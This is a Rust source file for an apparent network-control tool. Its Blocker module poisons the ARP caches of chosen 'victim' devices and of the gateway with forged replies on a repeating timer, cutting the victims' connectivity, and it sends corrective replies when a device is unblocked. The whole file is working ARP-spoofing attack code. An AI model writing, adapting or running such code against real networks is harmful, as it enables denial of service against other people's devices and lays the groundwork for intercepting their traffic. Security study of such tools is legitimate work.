use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use parking_lot::Mutex;
use pnet::datalink::MacAddr;

use crate::config::EngineConfig;
use crate::core::device::{Device, DeviceTable};
use crate::core::events::EventLog;
use crate::core::timing::{CancelToken, WaitOutcome};
use crate::net::arp;
use crate::net::channel::FrameSink;
use crate::error::{Result, WardenError};

/// Book-keeping for one blocked victim.
///
/// Carries a copy of the victim's addressing so the poison loop never has to
/// touch the device table; the table's `is_blocked` flag is re-looked-up by
/// MAC whenever it is mutated.
#[derive(Debug, Clone)]
pub struct BlockedDevice {
    pub mac: MacAddr,
    pub ip: Ipv4Addr,
    pub blocked_at: Instant,
    pub packets_sent: u64,
}

/// Keeps every blocked victim's ARP cache (and the gateway's) poisoned, and
/// restores both on release.
///
/// Cheap to clone; all clones share the same state.
#[derive(Clone)]
pub struct Blocker {
    inner: Arc<Inner>,
}

struct Inner {
    own_mac: MacAddr,
    gateway: Device,
    sink: Arc<dyn FrameSink>,
    table: DeviceTable,
    events: EventLog,
    blocked: Mutex<HashMap<MacAddr, BlockedDevice>>,
    cancel: CancelToken,
    handle: Mutex<Option<JoinHandle<()>>>,
    spoof_interval: Duration,
    restore_rounds: usize,
    restore_gap: Duration,
}

impl Blocker {
    /// Precondition: `gateway` must be the resolved gateway device.
    pub fn new(
        own_mac: MacAddr,
        gateway: Device,
        table: DeviceTable,
        sink: Arc<dyn FrameSink>,
        events: EventLog,
        config: &EngineConfig,
    ) -> Result<Self> {
        if !gateway.is_gateway {
            return Err(WardenError::NotGateway(gateway.ip));
        }
        Ok(Self {
            inner: Arc::new(Inner {
                own_mac,
                gateway,
                sink,
                table,
                events,
                blocked: Mutex::new(HashMap::new()),
                cancel: CancelToken::new(),
                handle: Mutex::new(None),
                spoof_interval: config.spoof_interval,
                restore_rounds: config.restore_rounds,
                restore_gap: config.restore_gap,
            }),
        })
    }

    /// Launch the periodic poison thread. Idempotent.
    pub fn start(&self) {
        let mut handle = self.inner.handle.lock();
        if handle.is_some() {
            self.inner.events.emit("[!] Blocker is already running.");
            return;
        }
        let inner = self.inner.clone();
        *handle = Some(thread::spawn(move || {
            // Wait-first: the immediate pair in `block` already covers t=0.
            while inner.cancel.wait(inner.spoof_interval) == WaitOutcome::Elapsed {
                inner.poison_all();
            }
        }));
        self.inner.events.emit("[*] Blocker started.");
    }

    /// Deny `device` gateway-bound connectivity.
    ///
    /// The gateway itself is refused. Repeat calls are no-ops. On insert the
    /// first poison pair is sent before the blocked-set lock is released, so
    /// no periodic pair can precede it.
    pub fn block(&self, device: &Device) {
        let inner = &*self.inner;
        if device.mac == inner.gateway.mac {
            inner
                .events
                .emit(format!("[!] Refusing to block the gateway {}.", inner.gateway.ip));
            return;
        }
        let Some(current) = inner.table.get(device.mac) else {
            inner
                .events
                .emit(format!("[!] {} is not a known device.", device.ip));
            return;
        };
        if current.ip == inner.gateway.ip {
            inner
                .events
                .emit(format!("[!] Refusing to block the gateway {}.", inner.gateway.ip));
            return;
        }

        let mut blocked = inner.blocked.lock();
        if blocked.contains_key(&current.mac) {
            inner
                .events
                .emit(format!("[!] {} is already blocked.", current.ip));
            return;
        }

        let mut entry = BlockedDevice {
            mac: current.mac,
            ip: current.ip,
            blocked_at: Instant::now(),
            packets_sent: 0,
        };
        inner.table.set_blocked(current.mac, true);
        entry.packets_sent += inner.send_poison_pair(current.mac, current.ip);
        inner
            .events
            .emit(format!("[*] Blocked {} ({}).", current.ip, current.mac));
        blocked.insert(current.mac, entry);
    }

    /// Release `device`: remove it from the blocked set and repair both ARP
    /// caches before returning. Unknown devices are a no-op.
    pub fn unblock(&self, device: &Device) {
        let inner = &*self.inner;
        let removed = {
            let mut blocked = inner.blocked.lock();
            let removed = blocked.remove(&device.mac);
            if removed.is_some() {
                inner.table.set_blocked(device.mac, false);
            }
            removed
        };

        if let Some(entry) = removed {
            inner.events.emit(format!(
                "[*] Unblocked {} ({} poison packets sent).",
                entry.ip, entry.packets_sent
            ));
            inner.restore_burst(&[(entry.mac, entry.ip)]);
        }
    }

    /// Stop the poison thread and restore every still-blocked victim.
    /// No victim is left with a poisoned cache once this returns.
    pub fn stop(&self) {
        let inner = &*self.inner;
        inner.cancel.cancel();
        if let Some(handle) = inner.handle.lock().take() {
            let _ = handle.join();
        }

        let drained: Vec<(MacAddr, Ipv4Addr)> = {
            let mut blocked = inner.blocked.lock();
            let entries: Vec<(MacAddr, Ipv4Addr)> =
                blocked.values().map(|e| (e.mac, e.ip)).collect();
            for (mac, _) in &entries {
                inner.table.set_blocked(*mac, false);
            }
            blocked.clear();
            entries
        };

        if !drained.is_empty() {
            inner
                .events
                .emit(format!("[*] Restoring {} victim(s)...", drained.len()));
            inner.restore_burst(&drained);
        }
        inner.events.emit("[*] Blocker stopped.");
    }

    /// Snapshot of the blocked set for display.
    pub fn blocked(&self) -> Vec<BlockedDevice> {
        self.inner.blocked.lock().values().cloned().collect()
    }

    pub fn is_blocked(&self, mac: MacAddr) -> bool {
        self.inner.blocked.lock().contains_key(&mac)
    }
}

impl Inner {
    /// One periodic round: poison every victim, holding the blocked-set lock
    /// for the whole iteration so removals never interleave with sends.
    fn poison_all(&self) {
        let mut blocked = self.blocked.lock();
        for entry in blocked.values_mut() {
            entry.packets_sent += self.send_poison_pair(entry.mac, entry.ip);
        }
    }

    /// Two poison replies: tell the victim we are the gateway, tell the
    /// gateway we are the victim. Returns the number of frames that made it
    /// out; failures are logged and skipped.
    fn send_poison_pair(&self, victim_mac: MacAddr, victim_ip: Ipv4Addr) -> u64 {
        let mut buffer = [0u8; arp::FRAME_SIZE];
        let mut sent = 0;

        arp::build_reply(
            &mut buffer,
            self.own_mac,
            self.own_mac,
            self.gateway.ip,
            victim_mac,
            victim_ip,
        );
        match self.sink.inject(&buffer) {
            Ok(()) => sent += 1,
            Err(e) => self
                .events
                .emit(format!("[!] Poison to {victim_ip} failed: {e}")),
        }

        arp::build_reply(
            &mut buffer,
            self.own_mac,
            self.own_mac,
            victim_ip,
            self.gateway.mac,
            self.gateway.ip,
        );
        match self.sink.inject(&buffer) {
            Ok(()) => sent += 1,
            Err(e) => self
                .events
                .emit(format!("[!] Poison to gateway for {victim_ip} failed: {e}")),
        }

        sent
    }

    /// Corrective replies carrying the true MACs, repeated because the burst
    /// races the victims' stale cache entries. Runs to completion even when
    /// cancellation is pending: the rounds are bounded, and exiting with a
    /// poisoned cache is the one unacceptable outcome.
    fn restore_burst(&self, victims: &[(MacAddr, Ipv4Addr)]) {
        let mut buffer = [0u8; arp::FRAME_SIZE];
        for round in 0..self.restore_rounds {
            for (victim_mac, victim_ip) in victims {
                arp::build_reply(
                    &mut buffer,
                    self.own_mac,
                    self.gateway.mac,
                    self.gateway.ip,
                    *victim_mac,
                    *victim_ip,
                );
                if let Err(e) = self.sink.inject(&buffer) {
                    self.events
                        .emit(format!("[!] Restore to {victim_ip} failed: {e}"));
                }

                arp::build_reply(
                    &mut buffer,
                    self.own_mac,
                    *victim_mac,
                    *victim_ip,
                    self.gateway.mac,
                    self.gateway.ip,
                );
                if let Err(e) = self.sink.inject(&buffer) {
                    self.events
                        .emit(format!("[!] Restore to gateway for {victim_ip} failed: {e}"));
                }
            }
            if round + 1 < self.restore_rounds {
                thread::sleep(self.restore_gap);
            }
        }
    }
}
